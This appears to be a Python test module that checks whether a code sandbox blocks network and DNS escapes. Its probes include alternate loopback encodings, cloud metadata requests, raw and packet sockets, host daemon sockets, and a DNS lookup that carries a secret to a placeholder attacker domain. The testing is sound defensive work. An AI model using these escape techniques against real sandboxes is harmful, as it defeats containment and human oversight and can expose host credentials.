"""Attempts to reach anything beyond the sandbox's own loopback, or to resolve a name."""

from __future__ import annotations

import os
import secrets
import socket

from actbox.sandbox.contract import closing
from tests.escape.attempt import Bare, Group, Verdict, escaped_if
from tests.escape.ground import Ground, first_output

GROUP = Group(
    "network and DNS",
    Bare.NOTHING_THERE,
    harmful=frozenset(
        [
            "connect to an address of the internet",
            "connect to an address of the internet by IPv6",
            "connect to a private address",
            "send a datagram to everybody",
            "send a datagram to a group",
            "send a datagram to neighbours by IPv6",
            "send a datagram out",
            "resolve a name with a secret in it",
            "stand between others' connections",
            "replace the packet filter",
            "load a protocol of its own",
            "change an interface",
            "add an address",
            "add a route",
            "ping",
        ]
    ),
)
_IPV6 = "/proc/net/if_inet6"


def _opens(*what: str) -> str:
    return f"refused(lambda: socket.socket({', '.join(what)}))"


GROUP.programs(
    {
        "connect to the host's loopback": "refused(lambda: socket.create_connection(('127.0.0.1', {host_port}), 1))",
        "connect to the host by the address that is no address": (
            "refused(lambda: socket.create_connection(('0.0.0.0', {host_port}), 1))"
        ),
        "connect to the host's loopback by a short form": (
            "refused(lambda: socket.create_connection(('127.1', {host_port}), 1))"
        ),
        "connect to the host's loopback by a number": (
            "refused(lambda: socket.create_connection(('2130706433', {host_port}), 1))"
        ),
        "connect to the host's loopback by an address within another": (
            "s = socket.socket(socket.AF_INET6)\ns.settimeout(1)\n"
            "refused(lambda: s.connect(('::ffff:127.0.0.1', {host_port})))"
        ),
        "connect to another address of the loopback": (
            "refused(lambda: socket.create_connection(('127.9.9.9', {open_port}), 1))"
        ),
        "connect to the host by its own address": (
            "refused(lambda: socket.create_connection(({host_address!r}, {open_port}), 1))"
        ),
        "open a connection with its first data": (
            "s = socket.socket()\nrefused(lambda: s.sendto(b'x', 0x20000000, ('127.0.0.1', {host_port})))"
        ),
        "connect to an abstract socket of the host": (
            "refused(lambda: socket.socket(socket.AF_UNIX).connect('\\0' + {abstract!r}))"
        ),
        "connect to a socket of the host by its path": (
            "refused(lambda: socket.socket(socket.AF_UNIX).connect({host_socket!r}))"
        ),
        "send a datagram to a socket of the host and hear that it is there": (
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('127.0.0.1', {host_udp_port}))\ns.send(b'x')\n"
            "import time\ntime.sleep(0.05)\nrefused(lambda: s.send(b'x'))"
        ),
        "see a port that the host listens on": (
            "found = [l for l in open('/proc/self/net/tcp') if ':%04X ' % {host_port} in l]\nverdict(bool(found), found)"
        ),
        "see a socket of the host in a list": (
            "found = [l for l in open('/proc/self/net/unix') if {abstract!r} in l]\nverdict(bool(found), found)"
        ),
        "see an interface of the host": (
            "names = [l.split(':')[0].strip() for l in open('/proc/self/net/dev').readlines()[2:]]\n"
            "verdict(names != ['lo'], names)"
        ),
        "list the interfaces by system call": "refused(lambda: [name for _, name in socket.if_nameindex() if name != 'lo'][0])",
        "open a netlink socket": _opens("socket.AF_NETLINK", "socket.SOCK_RAW", "0"),
    },
    Bare.GETS_THROUGH,
)
GROUP.programs(
    {
        "open a raw socket": _opens("socket.AF_INET", "socket.SOCK_RAW", "1"),
        "open a raw socket of IPv6": _opens("socket.AF_INET6", "socket.SOCK_RAW", "58"),
        "open a packet socket": _opens("socket.AF_PACKET", "socket.SOCK_RAW"),
        "open a packet socket that needs no rights": _opens("socket.AF_PACKET", "socket.SOCK_DGRAM"),
    },
    Bare.GETS_THROUGH_AS_ROOT,
)
GROUP.programs(
    {
        "connect to the host's loopback by IPv6": "refused(lambda: socket.create_connection(('::1', {host_port}), 1))",
        "connect to an address of the internet": "refused(lambda: socket.create_connection(('192.0.2.1', 80), 1))",
        "connect to the cloud's metadata": "refused(lambda: socket.create_connection(('169.254.169.254', 80), 1))",
        "connect to a private address": "refused(lambda: socket.create_connection(('10.0.0.1', 80), 1))",
        "connect to the bridge of containers": "refused(lambda: socket.create_connection(('172.17.0.1', 80), 1))",
        "send a datagram to everybody": (
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
            "refused(lambda: s.sendto(b'x', ('255.255.255.255', 9)))"
        ),
        "send a datagram to a group": (
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nrefused(lambda: s.sendto(b'x', ('224.0.0.251', 5353)))"
        ),
        "send a datagram out": (
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nrefused(lambda: s.sendto(b'x', ('192.0.2.1', 53)))"
        ),
        "resolve a name": "refused(lambda: socket.getaddrinfo('example.com', 80))",
        "resolve a name with a secret in it": "refused(lambda: socket.gethostbyname('secret.attacker.example'))",
        "resolve an address": "refused(lambda: socket.gethostbyaddr('192.0.2.1'))",
        "learn the host's name server": (
            "found = [l for l in open('/etc/resolv.conf') if l.startswith('nameserver')]\nverdict(bool(found), found)"
        ),
        "ask a name server on the host itself": (
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(0.2)\n"
            "s.sendto(bytes.fromhex('000101000001000000000000076578616d706c6503636f6d0000010001'), ('127.0.0.53', 53))\n"
            "refused(lambda: s.recv(512))"
        ),
        "ask the name service's daemon": "refused(lambda: socket.socket(socket.AF_UNIX).connect('/run/nscd/socket'))",
        "ask the resolver's daemon": (
            "refused(lambda: socket.socket(socket.AF_UNIX).connect('/run/systemd/resolve/io.systemd.Resolve'))"
        ),
        "ask the system's bus": (
            "refused(lambda: socket.socket(socket.AF_UNIX).connect('/run/dbus/system_bus_socket'))"
        ),
        "draw on the host's screen": "refused(lambda: socket.socket(socket.AF_UNIX).connect('\\0/tmp/.X11-unix/X0'))",
        "bind an address that is not its own": "refused(lambda: socket.socket().bind(('192.0.2.7', 0)))",
        "send from an address that is not its own": (
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.setsockopt(socket.SOL_IP, 15, 1)\n"
            "s.bind(('192.0.2.7', 0))\nrefused(lambda: s.sendto(b'x', ('192.0.2.1', 9)))"
        ),
        "stand between others' connections": "s = socket.socket()\nrefused(lambda: s.setsockopt(socket.SOL_IP, 19, 1))",
        "choose an interface": "s = socket.socket()\nrefused(lambda: s.setsockopt(socket.SOL_SOCKET, 25, b'eth0\\0'))",
        "mark its packets": "s = socket.socket()\nrefused(lambda: s.setsockopt(socket.SOL_SOCKET, 36, 1))",
        "replace the packet filter": "s = socket.socket()\nrefused(lambda: s.setsockopt(socket.SOL_IP, 64, bytes(128)))",
        "read the packet filter": "s = socket.socket()\nrefused(lambda: s.getsockopt(socket.SOL_IP, 64, 128))",
        "load a protocol of its own": "s = socket.socket()\nrefused(lambda: s.setsockopt(socket.SOL_TCP, 31, b'smc'))",
        "change an interface": (
            "import fcntl\ns = socket.socket()\n"
            "refused(lambda: fcntl.ioctl(s, 0x8914, struct.pack('16sH14x', b'lo', 0)))"
        ),
        "add an address": ("import fcntl\ns = socket.socket()\nrefused(lambda: fcntl.ioctl(s, 0x8916, bytes(40)))"),
        "add a route": "import fcntl\ns = socket.socket()\nrefused(lambda: fcntl.ioctl(s, 0x890B, bytes(120)))",
        "ping": _opens("socket.AF_INET", "socket.SOCK_DGRAM", "1"),
        "speak SCTP": _opens("socket.AF_INET", "socket.SOCK_STREAM", "132"),
        "speak MPTCP": _opens("socket.AF_INET", "socket.SOCK_STREAM", "262"),
        "speak UDP-Lite": _opens("socket.AF_INET", "socket.SOCK_DGRAM", "136"),
        "speak DCCP": _opens("socket.AF_INET", "6", "33"),
        "open a socket to the hypervisor": _opens("40", "socket.SOCK_STREAM"),
        "open a socket to the kernel's ciphers": _opens("38", "socket.SOCK_SEQPACKET"),
        "open a bluetooth socket": _opens("31", "socket.SOCK_RAW", "1"),
        "open a socket of IPsec's keys": _opens("15", "socket.SOCK_RAW", "2"),
        "open a socket of express paths": _opens("44", "socket.SOCK_RAW"),
        "open a socket of a car": _opens("29", "socket.SOCK_RAW", "1"),
        "open a socket of a cluster": _opens("30", "socket.SOCK_RDM"),
        "open a socket of a multiplexer": _opens("41", "socket.SOCK_DGRAM"),
        "open a socket of amateur radio": _opens("3", "socket.SOCK_SEQPACKET"),
        "open a pair of sockets of a cluster": "refused(lambda: socket.socketpair(30, socket.SOCK_SEQPACKET))",
    }
)
GROUP.targets(
    {
        "connect to an address of the internet by IPv6": (
            _IPV6,
            "s = socket.socket(socket.AF_INET6)\ns.settimeout(1)\nrefused(lambda: s.connect(('2001:db8::1', 80)))",
        ),
        "connect to the cloud's metadata by IPv6": (
            _IPV6,
            "s = socket.socket(socket.AF_INET6)\ns.settimeout(1)\nrefused(lambda: s.connect(('fd00:ec2::254', 80)))",
        ),
        "send a datagram to neighbours by IPv6": (
            _IPV6,
            "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\nrefused(lambda: s.sendto(b'x', ('ff02::1', 9, 0, 0)))",
        ),
    }
)


@GROUP.function("reach a port of another run", Bare.GETS_THROUGH)
async def _(ground: Ground) -> Verdict:
    box = await ground.open()
    listening = box.stream(
        "import socket, time\nserver = socket.create_server(('127.0.0.1', 45678))\nprint('listening', flush=True)\ntime.sleep(30)"
    )
    async with closing(listening):
        await first_output(listening)
        return await ground.tries(box, "refused(lambda: socket.create_connection(('127.0.0.1', 45678), 1))")


@GROUP.function("be reached from the host by a port", Bare.GETS_THROUGH)
async def _(ground: Ground) -> Verdict:
    box = await ground.open()
    word = secrets.token_bytes(16)  # another process of the host may listen on a port with the same number
    listening = box.stream(
        "import socket\nserver = socket.create_server(('127.0.0.1', 0))\n"
        "print(server.getsockname()[1], flush=True)\nserver.settimeout(30)\n"
        f"server.accept()[0].sendall({word!r})"
    )
    async with closing(listening):
        port = int(await first_output(listening))
        try:
            with socket.create_connection(("127.0.0.1", port), 1) as connection:
                said = connection.recv(len(word))
        except (ConnectionError, TimeoutError) as error:
            return escaped_if(False, error)
        return escaped_if(said == word, f"the host reached port {port}")


@GROUP.function("reach an abstract socket of another run", Bare.GETS_THROUGH)
async def _(ground: Ground) -> Verdict:
    box = await ground.open()
    name = f"here-{os.getpid()}"
    listening = box.stream(
        f"import socket, time\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0{name}')\ns.listen()\n"
        "print('ready', flush=True)\ntime.sleep(30)"
    )
    async with closing(listening):
        await first_output(listening)
        return await ground.tries(box, f"refused(lambda: socket.socket(socket.AF_UNIX).connect('\\0{name}'))")
